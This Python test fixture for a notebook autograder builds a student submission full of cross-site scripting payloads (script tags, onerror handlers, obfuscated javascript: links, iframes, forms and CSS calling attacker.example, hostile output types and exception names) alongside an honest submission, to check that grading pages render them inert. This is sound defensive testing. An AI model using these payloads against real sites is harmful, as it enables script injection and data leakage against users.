"""Submissions that attack whoever reads them: every place of a notebook that a page may show.

A payload that ran would add its name to ``window.pwned``; one that reached out would ask
attacker.example. Each holds a word, ``shown-NAME``, that the page must show as text.
"""

from __future__ import annotations

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder.assignments import FORGETTING
from autograder.notebooks import grade_id
from autograder.submissions import answered, right_answers

REMOTE = "https://attacker.example"


def script(name):
    """What a payload wants to run."""
    return f"window.pwned=(window.pwned||'')+'{name} '"


def tag(name):
    return f"shown-{name}<script>{script(name)}</script>"


def picture(name):
    return f'shown-{name}<img src=x onerror="{script(name)}">'


def markdown():
    """Name and text of each attack on the reader of a text cell."""
    js = script("link").replace("'", "%27")
    svg = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"/>".encode())
    coded = "".join(f"&#{ord(letter)};" for letter in f"<script>{script('entities')}</script>")
    return {
        "script": tag("script"),
        "img": picture("img"),
        "svg": f'<svg onload="{script("svg")}"><text>shown-svg</text></svg>',
        "details": f'<details open ontoggle="{script("details")}">shown-details</details>',
        "anchor": f'<a href="javascript:{js}">shown-anchor</a>',
        "link": f"[shown-link](javascript:{js})",
        "link-entity": f"[shown-link-entity](javascript&#58;{js})",
        "link-hex": f"[shown-link-hex](&#x6a;avascript&colon;{js})",
        "link-case": f"[shown-link-case]( JaVaScRiPt:{js})",
        "link-tab": f"[shown-link-tab](<java\tscript:{js}>)",
        "link-data": f"[shown-link-data](data:text/html;base64,{svg.decode()})",
        "link-vbs": f"[shown-link-vbs](vbscript:{js})",
        "link-relative": "[shown-link-relative](evil.html)",
        "link-server": "[shown-link-server](/formgrader/manage_students/%22;pwned=1;%22)",
        "autolink": f"shown-autolink <javascript:{js}> <{REMOTE}/autolink> {REMOTE}/bare",
        "reference": f"[shown-reference][r]\n\n[r]: javascript:{js} 'title'",
        "reference-2": f"[shown-reference-2]\n\n[shown-reference-2]: javascript&#58;{js}",
        "image": f"![shown-image]({REMOTE}/image.png)",
        "image-ref": f"![shown-image-ref][p]\n\n[p]: {REMOTE}/image-ref.png",
        "image-svg": f"![shown-image-svg](data:image/svg+xml;base64,{svg.decode()})",
        "attachment": "![shown-attachment](attachment:picture.png)",
        "title": f"[shown-title](https://a.example '\"onmouseover=\"{js}')",
        "meta": f'shown-meta<meta http-equiv=refresh content="0;url={REMOTE}/meta">',
        "base": f'shown-base<base href="{REMOTE}/base/">',
        "iframe": f'shown-iframe<iframe src="{REMOTE}/iframe"></iframe>',
        "srcdoc": f'shown-srcdoc<iframe srcdoc="<script>parent.{script("srcdoc")}</script>">',
        "object": f'shown-object<object data="{REMOTE}/object"></object><embed src=x>',
        "form": f'shown-form<form action="{REMOTE}/form"><input autofocus onfocus={js}></form>',
        "style": f"shown-style<style>@import '{REMOTE}/style.css'; body {{display: none}}</style>",
        "css": f'shown-css<p style="background:url({REMOTE}/css)">x</p>',
        "sheet": f'shown-sheet<link rel=stylesheet href="{REMOTE}/sheet.css">',
        "entities": f"shown-entities {coded}",
        "double": f"shown-double &amp;lt;script&amp;gt;{script('double')}&lt;/script&gt;",
        "template": f"shown-template {{{{ 7*7 }}}} {{% raw %}} <%= {script('template')} %>",
        "fence": f"```html\n{tag('fence')}\n```",
        "fence-end": f"shown-fence-end\n\n```\n</pre></code>{picture('fence-end')}\n```",
        "fence-info": f'```"><img/src=x/onerror={script("info")}>\nshown-fence-info\n```',
        "mermaid": f'```mermaid\ngraph TD\n A["{picture("mermaid")}"]\n click A href "x"\n```',
        "code": f"shown-code `</code>{tag('code')}`",
        "heading": f"# shown-heading {tag('heading')}",
        "table": f"| shown-table | {tag('table')} |\n|---|---|\n| {picture('cell')} | <b>x |",
        "blank-lines": f"shown-blank\n\n\n\t\n{tag('blank-lines')}\n\x0b\n\x0c\n\x85\n\u2028\n"
        f"{tag('blank-lines-2')}",
        "div-end": f"</div></div></div></main></body></html>{tag('div-end')}",
        "cdata": f"<![CDATA[ shown-cdata ]]> <?xml shown ?> <!DOCTYPE html> {tag('cdata')}",
        "math": f"$\\href{{javascript:{script('math')}}}{{shown-math}}$",
        "math-tags": f'$</script>{tag("math-tags")}$ $$<img src=x onerror="{script("m")}">$$',
        "math-style": f"shown-math-style $\\style{{background:url({REMOTE}/m)}}{{x}}$",
        "math-require": "shown-math-require $\\require{html} \\unicode[x;src:url(x)]{65}$",
        "latex": f"\\begin{{align}}<script>{script('latex')}</script>\\end{{align}} shown-latex",
        "control": f"shown-control\x00\x07\x1b[38m<scr\x00ipt>{script('control')}</script>",
        "nested": ">" * 2000 + " shown-nested " + "*" * 2000,
        # These stay last: what comes after them must be seen all the same.
        "unclosed-comment": "shown-unclosed-comment <!-- ",
        "unclosed-script": "shown-unclosed-script <script>",
        "unclosed-textarea": "shown-unclosed-textarea <textarea>",
        "unclosed-title": "shown-unclosed-title <title><plaintext>",
        "unclosed-attribute": 'shown-unclosed-attribute <a title="',
        "unclosed-fence": "shown-unclosed-fence\n\n```\n",
        "after-it-all": "shown-after-it-all",
    }


PRINTS = f"""
print('''{tag("stdout")}''')
print("shown-ansi \\x1b[31;1m\\x1b[38m\\x1b[48;5m\\x1b[38;2;1m<b>\\x1b[" + "9" * 5000 + "m")
print("shown-control-2 \\x00\\x07\\x08 \\ud800 \\x1b]0;title\\x07 \\x9b31m")
import sys
print('''{tag("stderr")}''', file=sys.stderr)
"""

DISPLAYS = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
display(HTML('''{tag("html")}'''))
display(Markdown('''{picture("markdown")}'''))
display(Latex('''{tag("latex-output")}'''))
display(Javascript("{script("javascript")}"))
display(SVG('''<svg xmlns="http://www.w3.org/2000/svg" onload="{script("svg-output")}"/>'''))
for kind in ("application/vnd.jupyter.widget-view+json", "text/vnd.mermaid", "application/pdf",
             "image/jpeg", "image/svg+xml", "text/x-own", "application/json"):
    display({{kind: '''"><img src=x onerror={script("kinds")}>''', "text/plain": "shown-plain"}},
            raw=True)
display({{"image/png": '''iVBOR"><img src=x onerror="{script("png")}">''', "text/plain": "x"}},
        raw=True, metadata={{"image/png": {{"width": "1 onload={script("width")}"}}}})
"""

RAISES = f"""
class Evil(Exception):
    def __str__(self):
        return '''{tag("evalue")}''' + "\\x1b[38m \\ud800"
    def _render_traceback_(self):
        return ['''{tag("traceback")}''', "\\x1b[48m<b>"]
Evil.__name__ = Evil.__qualname__ = '''{picture("ename")}'''
raise Evil
"""


def raising(name, signature):
    said = f"{tag(name)} {picture(name)} \\x1b[38m \\ud800"
    kind = f"type('''{picture(name + '-type')}''', (ValueError,), {{}})"
    return f"def {signature}:\n    raise {kind}('''{said}''')\n"


ANSWERS = {
    "relabel": raising("message", "relabel(y, classes)"),
    "accuracy": f"def accuracy(model, x, y):\n    return '''{picture('value')}'''\n",
    "forgetting": f"type('''{picture('type')}''', (), {{}})\n"
    f"def forgetting(R):\n    return type('''{picture('type')}''', (), {{}})()\n",
}


# What the page shows of the attacks on code cells and on the points table.
SHOWN_ELSEWHERE = [
    "written",
    "written-2",
    "appended",
    "raw",
    "raw-2",
    "raw-3",
    "comment",
    "magic",
    "stdout",
    "ansi",
    "control-2",
    "stderr",
    "plain",
    "traceback",
    "message",
    "message-type",
    "experiment",
]


def mallory():
    """A notebook with every attack in it."""
    notebook = answered(FORGETTING, ANSWERS)
    texts = markdown()
    for cell in notebook.cells:
        if grade_id(cell) == "answer-observation":
            cell.source = "\n\n".join([tag("written"), picture("written-2"), texts["link"]])
            cell.source += "\n\n$" + "x$\n" * 3 + "<!--"
        elif cell.cell_type == "markdown" and not grade_id(cell):
            cell.source += f"\n\n{tag('appended')}"
    for name, text in texts.items():
        cell = new_markdown_cell(text, id=f"attack-{name}")
        cell.metadata["tags"] = [f'"><img src=x onerror={script("tags")}>']
        cell.attachments = {"picture.png": {"image/svg+xml": f'"onerror="{script("attached")}'}}
        notebook.cells.append(cell)
    for text in (tag("raw"), picture("raw-2"), f"<a href={REMOTE}>shown-raw-3</a>"):
        notebook.cells.append(new_raw_cell(text, metadata={"raw_mimetype": "text/html"}))
    for code in (f"# {tag('comment')}", f"%%html\n{tag('magic')}", PRINTS, DISPLAYS, RAISES):
        notebook.cells.append(new_code_cell(code))
    notebook.cells.append(experiment())
    notebook.metadata["title"] = f"</title>{tag('notebook-title')}"
    notebook.metadata["language_info"] = {"name": "html", "pygments_lexer": "html"}
    state = {"application/vnd.jupyter.widget-state+json": {"state": f"</script>{tag('widgets')}"}}
    notebook.metadata["widgets"] = state
    return notebook


def experiment():
    """A cell that is not run: it keeps the figures that were handed in with it."""
    cell = new_code_cell("# shown-experiment", metadata={"tags": ["experiment"]})
    for data in (
        {"text/html": tag("handed-in")},
        {"application/javascript": script("handed-in")},
        {"image/svg+xml": f'<svg onload="{script("handed-in")}"/>'},
        {"image/png": f'aaaa"onerror="{script("handed-in")}'},
    ):
        cell.outputs.append(new_output("display_data", data=data))
    return cell


# One black pixel.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="


def honest():
    """What an honest student writes: Markdown with formulas, code and comparisons; a figure.

    The same cells are answered as in ``mallory``: nbgrader's pages show others differently.
    """
    right = right_answers(FORGETTING)
    notebook = answered(FORGETTING, {name: right[name] for name in ANSWERS})
    for cell in notebook.cells:
        if grade_id(cell) == "answer-observation":
            cell.source = (
                "It drops, since $a < b$ & `x <= y`:\n\n- **first** point\n- $$\\theta_i > 0$$\n\n"
                "```python\nif a < b:\n    c = d\n```\n\nSee https://arxiv.org/abs/1612.00796."
            )
    display = f'from IPython.display import display\ndisplay({{"image/png": "{PNG}"}}, raw=True)'
    notebook.cells.append(new_code_cell(f"{display}\nprint('\\x1b[31mred\\x1b[0m & <b>')"))
    return notebook
